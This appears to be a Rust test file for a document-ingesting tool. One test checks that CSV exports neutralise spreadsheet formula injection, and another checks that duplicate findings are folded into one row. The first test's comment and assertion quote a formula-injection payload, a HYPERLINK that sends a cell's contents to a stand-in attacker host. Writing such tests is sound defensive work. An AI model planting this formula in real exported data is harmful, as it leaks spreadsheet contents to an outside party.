//! Exports written by strangers' documents, opened by researchers in a spreadsheet: no cell
//! may start like a formula (issue 11: a title `=HYPERLINK("http://…/steal?x="&A1,…)` was
//! written as it was, and 14 of 119 cells of a hostile set began with `=`, `+`, `-` or `@`).

mod support;

use support::{peerscope, root};

#[test]
fn no_csv_cell_starts_like_a_formula() {
    let data = tempfile::tempdir().unwrap();
    let page = root().join("tests/hostile/formula_cells.html");
    let out = peerscope(data.path()).arg("ingest").arg(&page).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = peerscope(data.path()).args(["export", "--format", "csv"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let header = reader.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert!(records.len() >= 2, "the page's findings are exported: {records:?}");
    for record in &records {
        for (column, cell) in header.iter().zip(record.iter()) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{column} starts like a formula: {cell:?}");
        }
    }
    // The text is all there, shown as text.
    let title = records[0].get(header.iter().position(|h| h == "title").unwrap()).unwrap();
    assert_eq!(title, "'=HYPERLINK(\"http://evil.example/steal?x=\"&A1,\"Peer challenge\")");
    // JSON lines are data, not a spreadsheet: they keep the text exactly.
    let out = peerscope(data.path()).args(["export", "--format", "jsonl"]).output().unwrap();
    let first: serde_json::Value = serde_json::from_slice(out.stdout.split(|b| *b == b'\n').next().unwrap()).unwrap();
    assert!(first["title"].as_str().unwrap().starts_with("=HYPERLINK"));
}

/// Regression: a report ingested as a web page and as text was exported as two rows per
/// finding, so a researcher counting rows counted its findings twice (862 rows for 485
/// findings over the shipped corpus) where `themes` counted them once.
#[test]
fn a_finding_published_twice_is_one_row_naming_the_other_copy() {
    let data = tempfile::tempdir().unwrap();
    let copies = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(root().join("corpus/torbay_lga-feedback-report_2024.txt")).unwrap();
    std::fs::write(copies.path().join("torbay.txt"), &text).unwrap();
    std::fs::write(copies.path().join("torbay-copy.txt"), format!("{text}\n")).unwrap();
    let out = peerscope(data.path()).arg("ingest").arg(copies.path()).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = |extra: &[&str]| -> Vec<serde_json::Value> {
        let out = peerscope(data.path()).args(["export", "--format", "jsonl"]).args(extra).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        out.stdout.split(|b| *b == b'\n').filter(|l| !l.is_empty()).map(|l| serde_json::from_slice(l).unwrap()).collect()
    };
    let folded = rows(&[]);
    let every = rows(&["--all-copies"]);
    assert!(folded.len() > 10, "{} rows", folded.len());
    // Every copy is there with --all-copies, half from each file; folded, each text once.
    let from_copy = every.iter().filter(|r| r["source"].as_str().unwrap().ends_with("torbay-copy.txt")).count();
    assert_eq!(every.len(), from_copy * 2);
    let texts: std::collections::HashSet<&str> = every.iter().map(|r| r["text"].as_str().unwrap()).collect();
    assert_eq!(texts.len(), folded.len());
    for r in &folded {
        let (source, also) = (r["source"].as_str().unwrap(), r["also_in"].as_str().unwrap());
        assert!(source != also && also.ends_with(".txt") && also.contains("torbay"), "{source} also in {also:?}");
    }
}
